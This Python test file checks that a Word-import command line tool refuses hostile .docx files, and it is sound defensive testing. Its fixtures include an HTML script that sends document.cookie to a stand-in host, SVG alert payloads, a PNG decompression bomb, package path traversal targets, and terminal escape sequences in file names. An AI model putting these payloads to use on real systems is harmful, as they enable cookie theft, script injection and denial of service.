"""``briefing import`` writes only pictures it decoded, and says what it refused.

A Word file is taken apart as an attacker would: the picture part replaced by a 40,000²
decompression bomb, a PNG with a web page after it, an SVG (or HTML) under a ``.png`` name,
or the relationship pointed out of the package (``../``) or at nothing. Each such file is
refused (exit 1) with a Chinese message naming the file and the paragraph, and nothing of it
is written; the other files of the batch still import. A picture linked to a file elsewhere is
left out with a warning. File names with control characters are printed escaped.
"""

from __future__ import annotations

import shutil
import zipfile
import zlib
from pathlib import Path

import pytest
from typer.testing import CliRunner

from briefing.cli import app
from tests.hostile.helpers import ISSUE_ID, workspace
from tests.hostile.make_corpus import png
from tests.importing import submissions as sub

runner = CliRunner()
ISSUE = f"issues/{ISSUE_ID}"
MEDIA = "word/media/image1.png"
RELS = "word/_rels/document.xml.rels"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>'
HTML = b"<!DOCTYPE html><html><body><script>fetch('//x.example/'+document.cookie)</script>"


def run(root: Path, *files: Path):  # type: ignore[no-untyped-def]
    return runner.invoke(app, ["-C", str(root), "import", *map(str, files)])


@pytest.fixture
def ws(tmp_path: Path) -> Path:
    return workspace(tmp_path / "ws", {})


def rebuilt(source: Path, out: Path, parts: dict[str, bytes]) -> Path:
    """*source* with the zip members in *parts* replaced (or added)."""
    with zipfile.ZipFile(source) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        for item in old.infolist():
            if item.filename not in parts:
                new.writestr(item, old.read(item.filename))
        for name, data in parts.items():
            new.writestr(name, data)
    return out


def submission(tmp_path: Path, name: str = "交警五大队-停车难.docx") -> Path:
    folder = tmp_path / "src"
    folder.mkdir(exist_ok=True)
    return sub.manual_submission(folder / name)


def with_picture(tmp_path: Path, data: bytes, name: str = "坏图片.docx") -> Path:
    return rebuilt(submission(tmp_path), tmp_path / name, {MEDIA: data})


def with_target(tmp_path: Path, target: str, mode: str = "") -> Path:
    source = submission(tmp_path)
    with zipfile.ZipFile(source) as z:
        rels = z.read(RELS).decode()
    rels = rels.replace('Target="media/image1.png"', f'Target="{target}"{mode}')
    return rebuilt(source, tmp_path / "改了关系.docx", {RELS: rels.encode()})


BOMB = png(40_000, 40_000, data=zlib.compress(b"\x00" * 4096))
CASES = {
    "bomb": (BOMB, "像素过多（40000×40000"),
    "png-then-html": (png(8, 8) + HTML, "图像数据之后还附有"),
    "svg-named-png": (SVG, "名为 .png 的图片，内容却不是 PNG、JPEG、GIF 或 BMP"),
    "html-with-png-signature": (b"\x89PNG\r\n\x1a\n" + HTML, "文件已损坏或被截断"),
    "truncated": (png(64, 64)[:60], "文件已损坏或被截断"),
}


def assert_refused(result, ws: Path, name: str, reason: str) -> None:  # type: ignore[no-untyped-def]
    assert result.exit_code == 1, result.output
    assert "Traceback" not in result.output
    line = next(x for x in result.output.splitlines() if name in x and "错误" in x)
    assert "第 " in line and "段的图片无法使用：" in line and reason in line, line
    assert line.endswith("未导入这个文件（请在 Word 中删除该图片或重新插入后再导入）")
    issue = ws / ISSUE
    assert sorted(p.name for p in issue.rglob("*")) == ["issue.yaml"]  # nothing written


@pytest.mark.parametrize("case", CASES)
def test_a_picture_that_does_not_decode_refuses_the_file(
    ws: Path, tmp_path: Path, case: str
) -> None:
    data, reason = CASES[case]
    file = with_picture(tmp_path, data)
    assert_refused(run(ws, file), ws, file.name, reason)


@pytest.mark.parametrize(
    ("target", "reason"),
    [
        ("../../../evil.png", "指向文档包以外的位置"),
        ("../../word/media/image1.png", "指向文档包以外的位置"),
        ("media/nothing.png", "文档包中没有 word/media/nothing.png"),
    ],
)
def test_a_picture_that_is_not_in_the_package_refuses_the_file(
    ws: Path, tmp_path: Path, target: str, reason: str
) -> None:
    file = with_target(tmp_path, target)
    assert_refused(run(ws, file), ws, file.name, reason)


def test_a_linked_picture_is_left_out_with_a_warning(ws: Path, tmp_path: Path) -> None:
    file = with_target(tmp_path, "file:///C:/照片/现场.png", ' TargetMode="External"')
    result = run(ws, file)
    assert result.exit_code == 0, result.output
    assert "图片链接到文档以外的文件（file:///C:/照片/现场.png），文档中没有图片本身，已跳过" in (
        result.output
    )
    assert not (ws / ISSUE / "images").exists()


def test_the_good_files_of_a_batch_still_import(ws: Path, tmp_path: Path) -> None:
    bad = with_picture(tmp_path, BOMB)
    good = tmp_path / "好.docx"
    shutil.copy(submission(tmp_path), good)
    result = run(ws, bad, good)
    assert result.exit_code == 1
    assert "已导入" in result.output and "像素过多" in result.output
    assert [p.name for p in (ws / ISSUE / "images").iterdir()] == ["01-1.png"]
    check = runner.invoke(app, ["-C", str(ws), "check"])
    assert "P00" not in check.output  # the written picture is one check accepts


def test_a_file_name_with_control_characters_is_printed_escaped(ws: Path, tmp_path: Path) -> None:
    file = with_picture(tmp_path, BOMB, name="报送\x1b[2J\n伪造.docx")
    result = run(ws, file)
    assert result.exit_code == 1
    assert "\x1b" not in result.output
    assert "报送\\x1b[2J\\n伪造.docx" in result.output
    good = tmp_path / "单位\x07稿.docx"
    shutil.copy(submission(tmp_path), good)
    result = run(ws, good)
    assert result.exit_code == 0, result.output
    assert "\x07" not in result.output and "单位\\x07稿.docx → 已导入" in result.output


def test_import_reads_no_article_linked_outside(ws: Path, tmp_path: Path) -> None:
    from tests.hostile.helpers import opened_files, opened_under

    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "secret.md").write_text(f"---\ntitle: {sub.TITLE}\n---\n", encoding="utf-8")
    (ws / ISSUE).mkdir(exist_ok=True)
    (ws / ISSUE / "01-link.md").symlink_to(outside / "secret.md")
    file = submission(tmp_path)
    with opened_files() as seen:
        result = run(ws, file)
    assert opened_under(seen, outside) == []
    assert "已导入" in result.output  # the linked file's title was never read to compare
